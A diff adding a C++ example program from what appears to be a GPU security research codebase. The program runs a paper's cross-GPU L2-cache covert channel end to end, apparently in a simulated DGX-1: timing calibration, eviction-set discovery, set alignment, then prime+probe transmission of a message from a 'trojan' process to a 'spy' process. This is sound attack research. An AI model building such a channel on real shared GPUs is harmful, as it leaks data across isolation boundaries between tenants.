@@ -1,0 +1,79 @@
+/**
+ * @file
+ * End-to-end covert channel demo: a trojan process on GPU 0 sends a
+ * text message (argv[1], or a default) to a spy process on GPU 1
+ * through the shared L2 cache of GPU 0, over NVLink, exactly as in
+ * paper Sec. IV. Every attack stage runs from scratch: timing
+ * calibration, eviction set discovery in both processes, Algorithm-2
+ * alignment, then the prime+probe transmission.
+ *
+ *   ./build/examples/covert_chat "my secret message"
+ */
+
+#include <cstdio>
+#include <string>
+
+#include "attack/covert/channel.hh"
+#include "attack/evset_finder.hh"
+#include "attack/set_aligner.hh"
+#include "attack/timing_oracle.hh"
+#include "rt/runtime.hh"
+
+using namespace gpubox;
+
+int
+main(int argc, char **argv)
+{
+    setLogEnabled(false);
+    const std::string message =
+        argc > 1 ? argv[1] : "Hello! How are you? Meet me in L2 set 42.";
+
+    rt::SystemConfig config; // the DGX-1
+    config.seed = 7;
+    rt::Runtime rt(config);
+
+    rt::Process &trojan = rt.createProcess("trojan");
+    rt::Process &spy = rt.createProcess("spy");
+
+    std::printf("[1/4] reverse engineering timing thresholds...\n");
+    attack::TimingOracle oracle(rt, spy);
+    auto calib = oracle.calibrate(/*spy gpu=*/1, /*victim gpu=*/0);
+    std::printf("      local hit/miss boundary: %.0f cycles, "
+                "remote: %.0f cycles\n",
+                calib.thresholds.localBoundary,
+                calib.thresholds.remoteBoundary);
+
+    std::printf("[2/4] discovering eviction sets (both processes, "
+                "buffers on GPU 0)...\n");
+    attack::EvictionSetFinder tfinder(rt, trojan, 0, 0, calib.thresholds);
+    tfinder.run();
+    attack::EvictionSetFinder sfinder(rt, spy, 1, 0, calib.thresholds);
+    sfinder.run();
+    std::printf("      trojan: %zu conflict groups, associativity %u; "
+                "spy: %zu groups\n",
+                tfinder.numGroups(), tfinder.associativity(),
+                sfinder.numGroups());
+
+    std::printf("[3/4] aligning eviction sets across processes "
+                "(Algorithm 2)...\n");
+    attack::SetAligner aligner(rt, trojan, spy, 0, 1, calib.thresholds);
+    auto mapping = aligner.alignGroups(tfinder, sfinder);
+    auto pairs = aligner.alignedPairs(tfinder, sfinder, mapping, 4);
+    std::printf("      %zu aligned channel sets ready\n", pairs.size());
+
+    std::printf("[4/4] transmitting %zu bytes over the L2 covert "
+                "channel...\n\n",
+                message.size());
+    attack::covert::CovertChannel channel(rt, trojan, spy, 0, 1, pairs,
+                                          calib.thresholds);
+    std::string decoded;
+    auto stats = channel.transmitMessage(message, decoded);
+
+    std::printf("  trojan sent: \"%s\"\n", message.c_str());
+    std::printf("  spy decoded: \"%s\"\n", decoded.c_str());
+    std::printf("\n  %zu bits, %zu bit errors (%.2f%%), %.2f Mbit/s "
+                "across GPUs\n",
+                stats.bitsSent, stats.bitErrors, 100.0 * stats.errorRate,
+                stats.bandwidthMbitPerSec);
+    return 0;
+}
